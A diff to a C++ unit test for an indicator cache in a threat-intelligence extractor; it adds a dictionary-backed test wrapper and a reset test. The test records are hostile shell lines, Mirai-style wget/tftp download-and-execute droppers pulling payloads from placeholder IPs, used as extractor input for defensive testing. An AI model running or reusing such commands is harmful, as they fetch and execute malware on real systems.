@@ -1,9 +1,11 @@
 // IndicatorCache: the same indicators as extracting each record afresh, for repeated records,
-// records in between, and after the cache has emptied itself at its record limit.
+// records in between, after the cache has emptied itself at its record limit, and after its
+// KeyDictionary has emptied itself.
 #include "analyze/intel/indicator_cache.h"
 
 #include <gtest/gtest.h>
 
+#include <span>
 #include <string>
 #include <vector>
 
@@ -19,14 +21,31 @@ std::vector<std::pair<IndicatorType, std::string>> fresh(std::string_view record
   return flat;
 }
 
-std::vector<std::pair<IndicatorType, std::string>> cached(IndicatorCache& cache, std::string_view record) {
-  std::vector<std::pair<IndicatorType, std::string>> flat;
-  for (const Indicator& i : cache.get(record)) flat.emplace_back(i.type, i.value);
-  return flat;
-}
+// The cache's answer, read back through the texts the dictionary reported learning.
+struct Cached {
+  IndicatorCache cache;
+  KeyDictionary keys;
+  std::vector<std::string> learnt;  // by dictionary id
+  std::vector<std::string> chunk_learnt;
+
+  Cached() { keys.begin_chunk(chunk_learnt); }
+
+  std::vector<std::pair<IndicatorType, std::string>> get(std::string_view record) {
+    std::vector<std::pair<IndicatorType, std::string>> flat;
+    const std::span<const std::uint32_t> ids = cache.get(record, keys);
+    learnt.insert(learnt.end(), chunk_learnt.begin(), chunk_learnt.end());
+    chunk_learnt.clear();
+    for (std::uint32_t id : ids) {
+      EXPECT_LT(id, learnt.size());
+      if (id >= learnt.size()) continue;
+      flat.emplace_back(static_cast<IndicatorType>(learnt[id].front()), learnt[id].substr(1));
+    }
+    return flat;
+  }
+};
 
 TEST(IndicatorCache, GivesWhatTheExtractorGives) {
-  IndicatorCache cache;
+  Cached cache;
   const std::vector<std::string> records = {
       "cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
       "/bin/busybox tftp -g -l dvrHelper -r mirai.mips 203.0.113.9",
@@ -36,23 +55,40 @@ TEST(IndicatorCache, GivesWhatTheExtractorGives) {
   };
   for (int round = 0; round < 3; ++round) {
     for (const std::string& record : records) {
-      EXPECT_EQ(cached(cache, record), fresh(record)) << record;
+      EXPECT_EQ(cache.get(record), fresh(record)) << record;
     }
   }
   EXPECT_FALSE(fresh(records[0]).empty());
 }
 
 TEST(IndicatorCache, StaysCorrectAcrossItsReset) {
-  IndicatorCache cache;
+  Cached cache;
   const std::string kept = "wget http://203.0.113.5/a.sh";
   for (std::size_t i = 0; i < IndicatorCache::kMaxRecords + 10; ++i) {
     const std::string record = "wget http://198.51.100.1/f" + std::to_string(i);
-    ASSERT_EQ(cached(cache, record), fresh(record)) << i;
+    ASSERT_EQ(cache.get(record), fresh(record)) << i;
     if (i % 5000 == 0) {
-      ASSERT_EQ(cached(cache, kept), fresh(kept)) << i;
+      ASSERT_EQ(cache.get(kept), fresh(kept)) << i;
     }
   }
-  EXPECT_EQ(cached(cache, kept), fresh(kept));
+  EXPECT_EQ(cache.get(kept), fresh(kept));
+}
+
+// When the dictionary empties itself (at a chunk start) the cached ids would name other keys:
+// the cache must notice and extract again.
+TEST(IndicatorCache, StaysCorrectWhenItsDictionaryEmpties) {
+  Cached cache;
+  const std::string early = "wget http://203.0.113.5/a.sh";
+  ASSERT_EQ(cache.get(early), fresh(early));
+  std::size_t filler = 0;
+  while (cache.keys.size() < KeyDictionary::kMaxKeys) cache.keys.intern("filler" + std::to_string(filler++));
+  cache.chunk_learnt.clear();  // a new chunk's list
+  ASSERT_TRUE(cache.keys.begin_chunk(cache.chunk_learnt));
+  ASSERT_EQ(cache.keys.size(), 0u);
+  cache.learnt.clear();
+  const std::string other = "tftp -g -r x.arm 198.51.100.200";
+  EXPECT_EQ(cache.get(other), fresh(other));
+  EXPECT_EQ(cache.get(early), fresh(early));
 }
 
 }  // namespace
